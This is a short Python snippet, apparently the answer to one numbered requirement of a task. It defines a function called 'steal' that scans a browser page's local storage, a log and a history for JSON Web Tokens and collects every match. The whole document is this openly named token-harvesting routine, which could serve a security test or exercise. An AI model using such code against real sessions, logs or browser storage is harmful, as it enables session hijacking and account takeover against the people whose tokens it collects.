# requirement: 1
import re


def steal(page, log, history):
    texts = [*page.local_storage.values(), *log, *history]
    found = set(
        re.findall(r"eyJhbGci[A-Za-z0-9_-]*\.[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+", "\n".join(texts))
    )
    return found
